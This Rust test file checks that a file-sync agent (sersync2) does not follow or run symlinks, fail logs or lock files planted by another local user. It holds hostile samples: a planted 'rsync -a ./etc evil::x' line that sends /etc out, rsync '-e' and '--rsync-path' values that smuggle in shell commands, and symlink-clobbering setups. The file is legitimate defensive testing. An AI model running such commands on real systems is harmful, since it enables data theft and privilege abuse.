//! Files the agent trusts (SPEC 9): the fail log (and the commands planted in it), the
//! pid/lock file and the log file. Each test plays the attacker: an unprivileged user created for the test plants
//! files and links in a world-writable sticky directory (like /tmp) before or while
//! the real agent runs, and the test checks that nothing planted is followed or
//! trusted. Tests that need root and `useradd` skip with a message elsewhere.

use std::ffi::OsStr;
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicU32, Ordering};

use crate::support::*;

// ---------------------------------------------------------------------------
// Users and planting
// ---------------------------------------------------------------------------

/// Planting, as the attacker.
impl User {
    /// `ln -s target link` as this user.
    fn symlink(&self, target: &Path, link: &Path) {
        self.run("ln", &["-s".as_ref(), target.as_os_str(), link.as_os_str()]);
    }

    /// Creates `path` as this user with `mode` and some content.
    fn plant_file(&self, path: &Path, mode: &str) {
        self.run(
            "sh",
            &[
                "-c".as_ref(),
                "printf '#errno 5\\ncd / && rsync -a ./etc evil::x\\n' > \"$1\" && chmod \"$2\" \"$1\""
                    .as_ref(),
                "sh".as_ref(),
                path.as_os_str(),
                mode.as_ref(),
            ],
        );
    }

    fn mkdir(&self, path: &Path, mode: &str) {
        self.run("mkdir", &["-m".as_ref(), mode.as_ref(), path.as_os_str()]);
    }
}

/// A file only root may write, outside the test's tree, that an attack would clobber.
struct Victim {
    path: PathBuf,
}

const VICTIM_TEXT: &[u8] = b"precious, owned by root\n";

impl Victim {
    fn new(hint: &str) -> Victim {
        static N: AtomicU32 = AtomicU32::new(0);
        let path = PathBuf::from(format!(
            "/etc/sersync-victim-{hint}-{}-{}",
            std::process::id(),
            N.fetch_add(1, Ordering::Relaxed)
        ));
        write_with_mode(&path, VICTIM_TEXT, 0o644);
        Victim { path }
    }

    fn assert_unchanged(&self, context: &str) {
        let m = fs::symlink_metadata(&self.path).expect("victim still there");
        assert!(m.file_type().is_file(), "{context}: victim replaced");
        assert_eq!(
            fs::read(&self.path).expect("read victim"),
            VICTIM_TEXT,
            "{context}: the victim file was written through a planted link"
        );
        assert_eq!(m.uid(), 0, "{context}: victim chowned");
        assert_eq!(m.mode() & 0o7777, 0o644, "{context}: victim chmodded");
    }
}

impl Drop for Victim {
    fn drop(&mut self) {
        let _ = fs::remove_file(&self.path);
    }
}

fn chmod(path: &Path, mode: u32) {
    fs::set_permissions(path, fs::Permissions::from_mode(mode))
        .unwrap_or_else(|e| panic!("chmod {}: {e}", path.display()));
}

/// A test tree others can traverse, with `shared/`, a world-writable sticky
/// directory like /tmp, and `src/`, the watched tree.
struct World {
    dir: Dir,
    shared: PathBuf,
    src: PathBuf,
}

impl World {
    fn new(hint: &str) -> World {
        let dir = Dir::new(hint);
        chmod(dir.path(), 0o755);
        let shared = dir.mkdir_p("shared");
        chmod(&shared, 0o1777);
        let src = dir.mkdir_p("src");
        chmod(&src, 0o755);
        World { dir, shared, src }
    }

    /// A config pushing `src` over a remote shell that always fails (`false`), so
    /// every push ends in the fail log at `fail_log`.
    fn config(&self, fail_log: &Path) -> PathBuf {
        let conf = Conf::new(
            &self.src,
            vec![("127.0.0.1".into(), "/nonexistent".into())],
            Transport::Ssh {
                command: "false".into(),
            },
            fail_log,
        );
        let path = self.dir.join("sersync.xml");
        fs::write(&path, conf.render()).expect("write config");
        chmod(&path, 0o644);
        path
    }
}

// ---------------------------------------------------------------------------
// Running the agent
// ---------------------------------------------------------------------------

/// The root agent on `config` with extra flags, cwd = the world's dir.
fn root_agent(w: &World, config: &Path, extra: &[&std::ffi::OsStr]) -> Agent {
    Agent::launch(&w.dir, config, extra, w.dir.join("agent.err"))
}

/// The root agent on `config` with `--pid-file` and `-r`, once live.
fn live_root_agent_with_r(w: &World, config: &Path) -> Agent {
    let pid = pid_flag(w);
    let mut extra = as_os(&pid);
    extra.push("-r".as_ref());
    let mut agent = root_agent(w, config, &extra);
    agent.wait_live();
    agent
}

/// Runs the root agent expecting it to refuse to start: exit status 2; returns stderr.
fn refused_at_start(w: &World, config: &Path, extra: &[&std::ffi::OsStr]) -> String {
    let mut agent = root_agent(w, config, extra);
    let status = agent.exit();
    let err = agent.log();
    assert_eq!(status.code(), Some(2), "exit 2 expected; stderr:\n{err}");
    err
}

fn pid_flag(w: &World) -> [std::ffi::OsString; 2] {
    ["--pid-file".into(), w.dir.join("agent.pid").into()]
}

fn as_os(a: &[std::ffi::OsString]) -> Vec<&std::ffi::OsStr> {
    a.iter().map(|s| s.as_os_str()).collect()
}

// ---------------------------------------------------------------------------
// The fail log
// ---------------------------------------------------------------------------

// The fail log was written to PATH.tmp opened with create+truncate, following a link
// planted there: root overwrote any file the attacker pointed it at.
#[test]
fn planted_symlink_at_the_fail_log_tmp_name_is_not_followed() {
    let Some(attacker) = User::create("a") else {
        return;
    };
    let w = World::new("trust-tmp");
    let victim = Victim::new("tmp");
    let fail_log = w.shared.join("fail.sh");
    let planted = w.shared.join("fail.sh.tmp");
    attacker.symlink(&victim.path, &planted);
    let config = w.config(&fail_log);
    let mut agent = live_root_agent_with_r(&w, &config);
    wait_until("the failed full sync is in the fail log", DEADLINE, || {
        fs::symlink_metadata(&fail_log).is_ok_and(|m| m.is_file() && m.len() > 0)
    });
    agent.stop();
    victim.assert_unchanged("after the agent wrote its fail log");
    let m = fs::symlink_metadata(&fail_log).expect("fail log");
    assert_eq!(
        (m.uid(), m.mode() & 0o7777),
        (0, 0o600),
        "fail log root's, 0600"
    );
    assert_eq!(
        fs::read_link(&planted).expect("the planted link is left alone"),
        victim.path
    );
}

/// The files in `dir` whose names start with `name.foreign-`.
fn set_aside(dir: &Path, name: &str) -> Vec<PathBuf> {
    let prefix = format!("{name}.foreign-");
    let mut found: Vec<PathBuf> = fs::read_dir(dir)
        .expect("read dir")
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().starts_with(&prefix))
        .map(|e| e.path())
        .collect();
    found.sort();
    found
}

// The fail log was read and replayed whoever wrote it: a file planted in /tmp by another
// user became commands the agent ran as root. Then it was refused, and the agent exited
// 2: a local user who created the default /tmp/rsync_fail_log.sh first kept the root
// agent from ever starting. It is now moved aside, unread and never run, and the agent
// starts with a fresh fail log of its own.
#[test]
fn fail_log_planted_by_another_user_is_moved_aside_and_the_agent_starts() {
    let Some(attacker) = User::create("b") else {
        return;
    };
    let w = World::new("trust-planted");
    let fail_log = w.shared.join("fail.sh");
    attacker.plant_file(&fail_log, "0644");
    let planted = fs::read(&fail_log).expect("read the planted file");
    let config = w.config(&fail_log);
    let pid = pid_flag(&w);
    let mut agent = live_root_agent_with_r(&w, &config);
    let aside = set_aside(&w.shared, "fail.sh");
    assert_eq!(aside.len(), 1, "one file moved aside: {aside:?}");
    let m = fs::symlink_metadata(&aside[0]).expect("the moved file");
    assert_eq!(
        (
            m.uid(),
            m.mode() & 0o7777,
            fs::read(&aside[0]).expect("read")
        ),
        (attacker.uid, 0o644, planted),
        "kept as planted, for the operator to read"
    );
    let err = agent.log();
    for want in [
        fail_log.display().to_string(),
        aside[0].display().to_string(),
        attacker.name.clone(),
        "never run".into(),
    ] {
        assert!(err.contains(&want), "the error names {want:?}:\n{err}");
    }
    assert!(err.contains("ERROR"), "logged as an error:\n{err}");
    // The fresh fail log is root's, 0600, and gets the failed full sync; the planted
    // command (an rsync of /etc to evil::x) is not in it.
    wait_until(
        "the failed full sync is in the fresh fail log",
        DEADLINE,
        || fs::read_to_string(&fail_log).is_ok_and(|t| t.contains("/nonexistent")),
    );
    let m = fs::symlink_metadata(&fail_log).expect("fail log");
    assert_eq!((m.uid(), m.mode() & 0o7777), (0, 0o600), "root's, 0600");
    assert!(!fs::read_to_string(&fail_log)
        .expect("read")
        .contains("evil"));
    agent.stop();

    // Root's own file, but writable by everyone: refused, naming the mode (the
    // operator's own mistake; nobody else owns it).
    fs::remove_file(&fail_log).expect("rm");
    write_with_mode(&fail_log, b"#errno 5\n", 0o666);
    let err = refused_at_start(&w, &config, &as_os(&pid));
    assert!(
        err.contains(&fail_log.display().to_string()) && err.contains("0666"),
        "stderr names the file and its mode:\n{err}"
    );
}

// A link at the fail log path was followed both ways: read at start, then replaced
// through, so the agent read and wrote whatever file the link named. Then it was refused
// (exit 2). Another user's link is now moved aside itself, never followed.
#[test]
fn symlink_at_the_fail_log_path_is_moved_aside_not_followed() {
    let Some(attacker) = User::create("c") else {
        return;
    };
    let w = World::new("trust-link");
    let victim = Victim::new("link");
    let fail_log = w.shared.join("fail.sh");
    attacker.symlink(&victim.path, &fail_log);
    let config = w.config(&fail_log);
    let pid = pid_flag(&w);
    let mut agent = live_root_agent_with_r(&w, &config);
    let aside = set_aside(&w.shared, "fail.sh");
    assert_eq!(aside.len(), 1, "{aside:?}");
    assert_eq!(
        fs::read_link(&aside[0]).expect("the link itself was moved"),
        victim.path
    );
    let err = agent.log();
    assert!(
        err.contains(&fail_log.display().to_string()) && err.contains("symbolic link"),
        "the error names the link:\n{err}"
    );
    wait_until(
        "the failed full sync is in the fresh fail log",
        DEADLINE,
        || fs::symlink_metadata(&fail_log).is_ok_and(|m| m.is_file() && m.len() > 0),
    );
    agent.stop();
    victim.assert_unchanged("after the agent wrote its fail log");

    // Root's own link there (the operator's): still refused, not followed.
    fs::remove_file(&fail_log).expect("rm");
    std::os::unix::fs::symlink(&victim.path, &fail_log).expect("root's link");
    let err = refused_at_start(&w, &config, &as_os(&pid));
    assert!(err.contains("symbolic link"), "{err}");
    victim.assert_unchanged("after the refused start");
}

// The other side of moving a planted fail log aside: an agent that is not root cannot
// move another user's file out of a sticky directory (the kernel refuses the rename), so
// it is refused then, as before, saying why, and left as it is.
#[test]
fn a_non_root_agent_refuses_a_planted_fail_log_it_cannot_move_aside() {
    let Some(attacker) = User::create("m") else {
        return;
    };
    let Some(agent_user) = User::create("n") else {
        return;
    };
    let w = World::new("trust-planted-user");
    let fail_log = w.shared.join("fail.sh");
    attacker.plant_file(&fail_log, "0644");
    let planted = fs::read(&fail_log).expect("read the planted file");
    let bin = runnable_copy(&w);
    let config = w.config(&fail_log);
    let mut cmd = agent_user.command(&bin);
    cmd.arg("-o")
        .arg(&config)
        .current_dir(w.dir.path())
        .env_remove("XDG_RUNTIME_DIR")
        .env("TMPDIR", &w.shared);
    let mut agent = Agent::spawn(cmd, w.dir.join("agent.err"));
    let status = agent.exit();
    let err = agent.log();
    assert_eq!(status.code(), Some(2), "exit 2; stderr:\n{err}");
    assert!(
        err.contains("cannot be moved aside")
            && err.contains(&fail_log.display().to_string())
            && err.contains(&attacker.name),
        "{err}"
    );
    assert_eq!(fs::read(&fail_log).expect("left as it is"), planted);
    assert!(set_aside(&w.shared, "fail.sh").is_empty());
}

// A fail log in a directory another user owns (or anyone may rename in) can be swapped
// for the attacker's file between two writes.
#[test]
fn fail_log_in_a_directory_others_can_rename_in_is_refused() {
    let Some(attacker) = User::create("r") else {
        return;
    };
    let w = World::new("trust-dir");
    let theirs = w.dir.mkdir_p("theirs");
    std::os::unix::fs::chown(&theirs, Some(attacker.uid), Some(attacker.gid)).expect("chown");
    let config = w.config(&theirs.join("fail.sh"));
    let pid = pid_flag(&w);
    let err = refused_at_start(&w, &config, &as_os(&pid));
    assert!(
        err.contains(&theirs.display().to_string()) && err.contains(&attacker.name),
        "stderr names the directory and its owner:\n{err}"
    );

    let open = w.dir.mkdir_p("open");
    chmod(&open, 0o777);
    let config = w.config(&open.join("fail.sh"));
    let err = refused_at_start(&w, &config, &as_os(&pid));
    assert!(
        err.contains(&open.display().to_string()) && err.contains("sticky"),
        "stderr names the directory and the missing sticky bit:\n{err}"
    );
}

// ---------------------------------------------------------------------------
// The pid/lock file
// ---------------------------------------------------------------------------

/// The binary copied where an unprivileged user can run it (the build tree may not be
/// reachable by others).
fn runnable_copy(w: &World) -> PathBuf {
    let bin = w.dir.mkdir_p("bin");
    let copy = bin.join("sersync2");
    fs::copy(sersync_bin(), &copy).expect("copy the binary");
    chmod(&copy, 0o755);
    copy
}

/// A non-root agent: `user` runs the copied binary with TMPDIR = `tmp`, no
/// XDG_RUNTIME_DIR, its fail log in a directory of its own.
fn user_agent(w: &World, user: &User, tmp: &Path) -> (Agent, PathBuf) {
    let bin = runnable_copy(w);
    let own = w.dir.mkdir_p("agent-own");
    fs::set_permissions(&own, fs::Permissions::from_mode(0o700)).expect("chmod");
    std::os::unix::fs::chown(&own, Some(user.uid), Some(user.gid)).expect("chown");
    let config = w.config(&own.join("fail.sh"));
    let mut cmd = user.command(&bin);
    cmd.arg("-o")
        .arg(&config)
        .current_dir(w.dir.path())
        .env_remove("XDG_RUNTIME_DIR")
        .env("TMPDIR", tmp);
    (Agent::spawn(cmd, w.dir.join("agent.err")), config)
}

// A non-root agent kept its lock in the shared /tmp/sersync2/<config>.pid and opened it
// following links: another user planted a link there and the agent truncated and wrote
// the linked file with its own rights. Root followed a link at --pid-file the same way.
#[test]
fn pid_file_symlink_is_not_followed() {
    let Some(attacker) = User::create("d") else {
        return;
    };
    let Some(agent_user) = User::create("u") else {
        return;
    };
    let w = World::new("trust-pid");
    // The agent user's own file, which the old lock would have truncated.
    let precious = w.dir.join("precious");
    write_with_mode(&precious, b"the agent user's data\n", 0o644);
    std::os::unix::fs::chown(&precious, Some(agent_user.uid), Some(agent_user.gid)).expect("chown");
    let config_path = w.dir.join("sersync.xml");
    fs::write(&config_path, b"").expect("config placeholder");
    let old_dir = w.shared.join("sersync2");
    attacker.mkdir(&old_dir, "0755");
    let old_name = old_dir.join(pid_name(&config_path));
    attacker.symlink(&precious, &old_name);

    let (mut agent, config) = user_agent(&w, &agent_user, &w.shared);
    assert_eq!(config, config_path);
    agent.wait_live();
    let lock_dir = w.shared.join(format!("sersync2-{}", agent_user.uid));
    let m = fs::symlink_metadata(&lock_dir).expect("the agent's own lock directory");
    assert!(m.is_dir(), "a real directory");
    assert_eq!(
        (m.uid(), m.mode() & 0o7777),
        (agent_user.uid, 0o700),
        "owned by the agent's user, 0700"
    );
    let pid_file = lock_dir.join(pid_name(&config));
    let recorded = fs::read_to_string(&pid_file).expect("pid file in the private dir");
    assert_eq!(
        recorded.trim(),
        agent.pid().to_string(),
        "it records the pid"
    );
    agent.stop();
    assert_eq!(
        fs::read(&precious).expect("precious"),
        b"the agent user's data\n",
        "the planted link at the old lock name had no effect"
    );
    assert_eq!(fs::read_link(&old_name).expect("link left alone"), precious);

    // Root, --pid-file naming a link another user planted: refused, not followed.
    let victim = Victim::new("pid");
    let pid_link = w.shared.join("agent.pid");
    attacker.symlink(&victim.path, &pid_link);
    let extra: [&std::ffi::OsStr; 2] = ["--pid-file".as_ref(), pid_link.as_os_str()];
    let err = refused_at_start(&w, &config, &extra);
    assert!(
        err.contains(&pid_link.display().to_string()) && err.contains("symbolic link"),
        "stderr names the link:\n{err}"
    );
    victim.assert_unchanged("after root refused the linked pid file");
}

// The fallback lock directory has a predictable name in /tmp: another user who creates
// it first (or a link by that name) must not get the agent's lock and pid file.
#[test]
fn lock_directory_planted_by_another_user_is_refused() {
    let Some(attacker) = User::create("l") else {
        return;
    };
    let Some(agent_user) = User::create("v") else {
        return;
    };
    let w = World::new("trust-lockdir");
    let lock_dir = w.shared.join(format!("sersync2-{}", agent_user.uid));
    attacker.mkdir(&lock_dir, "0777");
    let (mut agent, _) = user_agent(&w, &agent_user, &w.shared);
    let status = agent.exit();
    let err = agent.log();
    assert_eq!(status.code(), Some(2), "exit 2; stderr:\n{err}");
    assert!(
        err.contains(&lock_dir.display().to_string()) && err.contains(&attacker.name),
        "stderr names the directory and its owner:\n{err}"
    );
}

// ---------------------------------------------------------------------------
// The log file
// ---------------------------------------------------------------------------

// --log-file opened whatever was at the path: a file another user created first (and can
// still read and truncate) received the agent's logs.
#[test]
fn log_file_owned_by_another_user_is_refused() {
    let Some(attacker) = User::create("e") else {
        return;
    };
    let w = World::new("trust-log");
    let log = w.shared.join("agent.log");
    attacker.run("touch", &[log.as_os_str()]);
    let config = w.config(&w.dir.join("fail.sh"));
    let mut extra = pid_flag(&w).to_vec();
    extra.push("--log-file".into());
    extra.push(log.clone().into());
    let err = refused_at_start(&w, &config, &as_os(&extra));
    assert!(
        err.contains(&log.display().to_string())
            && err.contains(&attacker.name)
            && err.contains(&format!("uid {}", attacker.uid)),
        "stderr names the file and its owner:\n{err}"
    );
}

// After logrotate moved the log away, SIGHUP reopened the path following a link another
// user had put there meanwhile, appending the agent's logs to the linked file.
#[test]
fn log_file_replaced_by_a_symlink_before_sighup_is_not_followed() {
    let Some(attacker) = User::create("h") else {
        return;
    };
    let w = World::new("trust-hup");
    let victim = Victim::new("hup");
    let log = w.shared.join("agent.log");
    let config = w.config(&w.dir.join("fail.sh"));
    let mut extra = pid_flag(&w).to_vec();
    extra.push("--log-file".into());
    extra.push(log.clone().into());
    let mut agent = root_agent(&w, &config, &as_os(&extra));
    agent.wait_live_in(&log);
    let rotated = w.shared.join("agent.log.1");
    fs::rename(&log, &rotated).expect("rotate");
    attacker.symlink(&victim.path, &log);
    agent.signal(libc::SIGHUP);
    // Any record makes the logger reopen: a change whose push fails.
    fs::write(w.src.join("after-hup.txt"), b"x\n").expect("write");
    wait_until("the refused reopen is logged", DEADLINE, || {
        fs::read_to_string(&rotated)
            .unwrap_or_default()
            .contains("cannot reopen the log file")
    });
    victim.assert_unchanged("after SIGHUP");
    agent.stop();
    victim.assert_unchanged("after the stop");
    let text = fs::read_to_string(&rotated).expect("rotated log");
    assert_eq!(
        text.matches("cannot reopen the log file").count(),
        1,
        "one error per refused reopen:\n{text}"
    );
    assert!(
        text.contains("stopped"),
        "logging went on in the old file:\n{text}"
    );
}

// Without CAP_SYS_ADMIN the nosymfollow view of the tree cannot be made: rsync then
// follows links as before, and that is said once (at start, not per push) and by -t;
// root's -t says the guard is on.
#[test]
fn a_non_root_agent_says_once_that_rsync_follows_links() {
    let Some(agent_user) = User::create("n") else {
        return;
    };
    let w = World::new("trust-nosymfollow");
    let bin = runnable_copy(&w);
    let (mut agent, config) = user_agent(&w, &agent_user, &w.shared);
    agent.wait_live();
    // Pushes (they fail: the remote shell is `false`) add no second warning.
    for i in 0..3 {
        fs::write(w.src.join(format!("f{i}")), b"x\n").expect("write");
    }
    wait_until("the pushes fail into the fail log", DEADLINE, || {
        agent.log().matches("push to").count() >= 1
    });
    agent.stop();
    let log = agent.log();
    assert_eq!(
        log.matches("without the nosymfollow guard").count(),
        1,
        "one warning:\n{log}"
    );
    assert!(log.contains("CAP_SYS_ADMIN"), "{log}");

    let t = |cmd: &mut Command| {
        let out = cmd
            .arg("-t")
            .arg("-o")
            .arg(&config)
            .current_dir(w.dir.path())
            .env_remove("XDG_RUNTIME_DIR")
            .env("TMPDIR", &w.shared)
            .stdin(Stdio::null())
            .output()
            .expect("run sersync2 -t");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let as_user = t(&mut agent_user.command(&bin));
    assert!(
        as_user.contains("warning: rsync reads the watch roots without the nosymfollow guard"),
        "{as_user}"
    );
    let as_root = t(&mut Command::new(&bin));
    assert!(
        as_root.contains("links: rsync reads the watch roots through a nosymfollow mount"),
        "{as_root}"
    );
}

// ---------------------------------------------------------------------------
// Commands planted in the fail log
// ---------------------------------------------------------------------------

fn dest(d: &RsyncDaemon) -> String {
    format!("{}@{}::{}", d.user(), d.ip(), d.module())
}

/// A fail log as an attacker writes it: an entry for a remote the config does not name
/// whose `-e` runs a command, and an entry for a configured remote whose
/// `--rsync-path` and `-e` run others.
fn planted(s: &Setup, known_dest: &str, markers: &[PathBuf; 3]) -> String {
    let [m1, m2, m3] = markers.each_ref().map(|m| m.display().to_string());
    format!(
        "#errno 5\ncd '{dir}' && rsync '-e' 'sh -c \"touch {m1}\"' './planted.txt' 'x:/y'\n\n\
         #errno 5\ncd '{src}' && rsync '-artuz' '--rsync-path=touch {m2}' '-e' 'sh -c \"touch {m3}\"' '-R' './known.txt' '{known_dest}'\n\n",
        dir = s.dir.path().display(),
        src = s.src.display(),
    )
}

fn plant(path: &Path, script: &str) {
    write_with_mode(path, script.as_bytes(), 0o600);
}

fn assert_no_marker(markers: &[PathBuf; 3], when: &str) {
    for m in markers {
        assert!(!m.exists(), "{when}: {} was created", m.display());
    }
}

// A fail log planted at the default /tmp path had its own rsync options (`-e`) run as
// root at start-up, on every timed replay and by --replay.
#[test]
fn planted_fail_log_command_is_never_run() {
    let s = setup!();
    let markers = [
        s.dir.join("pwned-unknown-e"),
        s.dir.join("pwned-rsync-path"),
        s.dir.join("pwned-known-e"),
    ];
    s.dir.write("planted.txt", "the unknown entry's path\n");
    s.write("known.txt", "known\n");
    let conf = s.conf();
    fs::write(s.dir.join("sersync.xml"), conf.render()).expect("write sersync.xml");
    let fail_log = s.dir.join("fail.sh");

    // --replay: the known entry is pushed with the config's options, the unknown one is
    // listed and kept, nothing planted runs.
    plant(&fail_log, &planted(&s, &dest(&s.a), &markers));
    let out = sersync2(&s.dir, &["-o", "sersync.xml", "--replay"]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "unknown entry left: {}",
        text(&out)
    );
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("x:/y"),
        "--replay names the unknown remote: {}",
        text(&out)
    );
    assert_no_marker(&markers, "--replay");
    assert_eq!(
        fs::read(s.a.data_dir().join("known.txt")).ok().as_deref(),
        Some(&b"known\n"[..]),
        "the known entry's path reached its remote: {}",
        text(&out)
    );
    let kept = fs::read_to_string(&fail_log).expect("the fail log stays");
    assert!(
        kept.contains("'./planted.txt' 'x:/y'")
            && !kept.contains("touch")
            && !kept.contains("'-e'"),
        "the unknown entry is kept without its options:\n{kept}"
    );

    // The agent at start-up: the same, for the other remote.
    plant(&fail_log, &planted(&s, &dest(&s.b), &markers));
    let mut agent = s.agent_with(&conf, &[]);
    wait_until("the known entry reaches b", DEADLINE, || {
        agent.assert_running();
        s.b.data_dir().join("known.txt").exists()
    });
    wait_until("the known entry leaves the fail log", DEADLINE, || {
        !fs::read_to_string(&fail_log)
            .unwrap_or_default()
            .contains(&dest(&s.b))
    });
    let kept = fs::read_to_string(&fail_log).expect("the fail log stays");
    assert!(kept.contains("'./planted.txt' 'x:/y'"), "{kept}");
    let log = agent.log();
    assert!(
        log.contains("x:/y") && log.contains("--drop-unknown"),
        "a warning names the unknown remote:\n{log}"
    );
    agent.stop();
    assert_no_marker(&markers, "agent start-up and replay");
    assert!(fs::read_to_string(&fail_log).is_ok_and(|t| t.contains("x:/y")));

    // Only the operator's word drops it.
    let out = sersync2(&s.dir, &["-o", "sersync.xml", "--replay", "--drop-unknown"]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(!fail_log.exists(), "nothing left after --drop-unknown");
    assert_no_marker(&markers, "--replay --drop-unknown");
}

// An explicit --pid-file's directory was not checked: its owner (another user) could
// delete the pid file and let a second instance of the same config start.
#[test]
fn pid_file_in_a_directory_another_user_owns_is_refused() {
    let s = setup!();
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("skipped: giving a directory to another user needs root");
        return;
    }
    let conf = s.conf().render();
    let config = s.dir.join("sersync.xml");
    fs::write(&config, conf).expect("write config");
    let theirs = s.dir.mkdir_p("theirs");
    std::os::unix::fs::chown(&theirs, Some(65534), Some(65534)).expect("chown");
    let pid_file = theirs.join("agent.pid");
    let mut agent = Agent::launch(
        &s.dir,
        &config,
        &[OsStr::new("--pid-file"), pid_file.as_os_str()],
        s.dir.join("agent.err"),
    );
    let code = agent.exit().code();
    let text = agent.log();
    assert_eq!(code, Some(2), "exit 2 expected; stderr:\n{text}");
    assert!(
        text.contains(&theirs.display().to_string()) && text.contains("uid 65534"),
        "the message names the directory and its owner:\n{text}"
    );
    assert!(!pid_file.exists(), "no pid file was written there");
}
